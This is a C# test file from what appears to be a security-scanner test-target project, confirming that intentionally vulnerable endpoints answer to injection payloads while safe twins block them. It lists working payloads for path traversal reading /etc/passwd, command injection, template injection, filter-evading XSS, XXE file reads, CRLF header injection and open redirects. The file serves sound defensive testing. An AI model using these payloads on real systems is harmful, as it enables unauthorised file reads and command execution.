using System.Net;
using System.Text;

namespace Harrier.TestTargets.Tests.Endpoints;

/// <summary>Context and filter variants beyond the one proof per hole in <c>KnownVulnerabilityProofTests</c>.</summary>
public sealed class InjectionVariantsTests(TargetFixture fixture)
{
    [Theory]
    [InlineData("/vuln/files/view?file=/etc/passwd", "root:x:0:0:")]
    [InlineData("/vuln/files/view?file=..%5C..%5C..%5C..%5Cwindows%5Cwin.ini", "[fonts]")]
    [InlineData("/vuln/files/view?file=C:%5CWindows%5Cwin.ini", "[fonts]")]
    [InlineData("/vuln/files/view?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", "root:x:0:0:")]
    [InlineData("/vuln/files/view?file=../../../../etc/passwd%2500.txt", "root:x:0:0:")]
    [InlineData("/vuln/files/view?file=file:///etc/passwd", "root:x:0:0:")]
    [InlineData("/vuln/files/filtered?file=/etc/passwd", "root:x:0:0:")]
    [InlineData("/vuln/cmdi/filtered?host=127.0.0.1%0Aid", "uid=33(www-data)")]
    [InlineData("/vuln/cmdi/filtered?host=127.0.0.1%60id%60", "uid=33(www-data)")]
    [InlineData("/vuln/cmdi/ping?host=x%26%26cat%20/etc/passwd", "root:x:0:0:")]
    [InlineData("/vuln/ssti/greet?name=%24%7B7*7%7D", "Hello 49!")]
    [InlineData("/vuln/ssti/greet?name=%3C%25%3D%207*7%20%25%3E", "Hello 49!")]
    [InlineData("/vuln/ssti/greet?name=%23%7B7*7%7D", "Hello 49!")]
    [InlineData("/vuln/ssti/greet?name=%40(7*7)", "Hello 49!")]
    [InlineData("/vuln/ssti/greet?name=%7B%7B7*%277%27%7D%7D", "Hello 7777777!")]
    [InlineData("/vuln/ssti/greet?name=%7B%7B%27%3Cb%3E%27%7D%7D", "Hello &lt;b&gt;!")]
    [InlineData("/vuln/ssti/greet?name=%7B%7Bconfig%7D%7D", "TemplateSyntaxError")]
    [InlineData("/vuln/xss/filtered?q=%3CScRiPt%3Ealert(1)%3C/ScRiPt%3E", "<ScRiPt>alert(1)</ScRiPt>")]
    [InlineData("/vuln/xss/filtered?q=%3Cscr%3Cscript%3Eipt%3Ealert(1)", "<script>alert(1)")]
    [InlineData("/vuln/ssrf/fetch?url=http://192.0.2.1/", "Could not connect to 192.0.2.1")]
    public async Task Variant_Works(string pathAndQuery, string expected)
    {
        // Act
        var response = await TargetRequests.GetAsync(fixture.Client, pathAndQuery);

        // Assert
        Assert.Contains(expected, response.Body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/safe/files/view?file=/etc/passwd")]
    [InlineData("/safe/files/view?file=..%5C..%5Cwindows%5Cwin.ini")]
    [InlineData("/vuln/files/filtered?file=../../../../etc/passwd")]
    [InlineData("/vuln/cmdi/filtered?host=127.0.0.1;id")]
    [InlineData("/vuln/cmdi/filtered?host=127.0.0.1%26%26id")]
    [InlineData("/safe/cmdi/ping?host=127.0.0.1|id")]
    [InlineData("/vuln/xss/filtered?q=%3Cscript%3Ealert(1)%3C/script%3E")]
    public async Task Variant_IsBlocked(string pathAndQuery)
    {
        // Act
        var response = await TargetRequests.GetAsync(fixture.Client, pathAndQuery);

        // Assert
        Assert.DoesNotContain("root:x:0:0:", response.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("[fonts]", response.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("uid=33", response.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("<script>alert(1)</script>", response.Body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Xxe_FetchesLoopbackSystemEntities_OutOfBand()
    {
        // Arrange
        var callback = fixture.Server.GetUrl("/crawl/target/xxe-callback");
        var xml = $"<!DOCTYPE order [<!ENTITY oob SYSTEM \"{callback}\">]><order><item>&oob;</item></order>";

        // Act
        using var content = new StringContent(xml, Encoding.UTF8, "application/xml");
        using var response = await fixture.Client.PostAsync("/vuln/xxe/order", content, TestContext.Current.CancellationToken);
        var body = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        // Assert
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains("You reached xxe-callback", body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<!DOCTYPE order [<!ENTITY x \"inline-value\">]><order><item>&x;</item></order>", "inline-value")]
    [InlineData("<!DOCTYPE order [<!ENTITY w SYSTEM \"file:///c:/windows/win.ini\">]><order><item>&w;</item></order>", "[fonts]")]
    [InlineData("<!DOCTYPE order [<!ENTITY w PUBLIC \"-//x\" \"file:///etc/hosts\">]><order><item>&w;</item></order>", "localhost")]
    public async Task Xxe_ExpandsDeclaredEntities(string xml, string expected)
    {
        // Act
        using var content = new StringContent(xml, Encoding.UTF8, "application/xml");
        using var response = await fixture.Client.PostAsync("/vuln/xxe/order", content, TestContext.Current.CancellationToken);
        var body = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);

        // Assert
        Assert.Contains(expected, body, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Crlf_InjectedSetCookie_BecomesAHeader_AndTheTwinStripsIt()
    {
        // Act
        var hole = await TargetRequests.GetAsync(fixture.Client, "/vuln/crlf/lang?lang=en%0D%0ASet-Cookie:%20crlf=injected");
        var twin = await TargetRequests.GetAsync(fixture.Client, "/safe/crlf/lang?lang=en%0D%0ASet-Cookie:%20crlf=injected");

        // Assert
        Assert.Equal("crlf=injected", Assert.Single(hole.Headers.GetValues("Set-Cookie")));
        Assert.Equal("en", hole.Header("Content-Language"));
        Assert.False(twin.Headers.Contains("Set-Cookie"));
        Assert.Equal("enSet-Cookie: crlf=injected", twin.Header("Content-Language"));
    }

    [Theory]
    [InlineData("/vuln/redirect/location?url=%2F%2Fexample.com%2F", "//example.com/")]
    [InlineData("/safe/redirect/location?url=%2F%2Fexample.com%2F", "/")]
    [InlineData("/safe/redirect/location?url=%2Fsafe%2F", "/safe/")]
    [InlineData("/vuln/redirect/location?url=https%3A%2F%2Fexample.com%2F%E2%82%AC%0D%0A", "https://example.com/%E2%82%AC%0D%0A")]
    public async Task Redirect_Location(string pathAndQuery, string location)
    {
        // Act
        var response = await TargetRequests.GetAsync(fixture.Client, pathAndQuery);

        // Assert
        Assert.Equal(HttpStatusCode.Found, response.Status);
        Assert.Equal(location, response.Header("Location"));
    }

    [Theory]
    [InlineData("/vuln/cmdi/blind?host=example.com")]
    [InlineData("/vuln/cmdi/blind?host=example.com;sleep%200.6")]
    public async Task BlindCommandInjection_NeverShowsOutput(string pathAndQuery)
    {
        // Act
        var response = await TargetRequests.GetAsync(fixture.Client, pathAndQuery);

        // Assert
        Assert.Contains("The DNS lookup was queued", response.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("sleep", response.Body, StringComparison.Ordinal);
    }
}
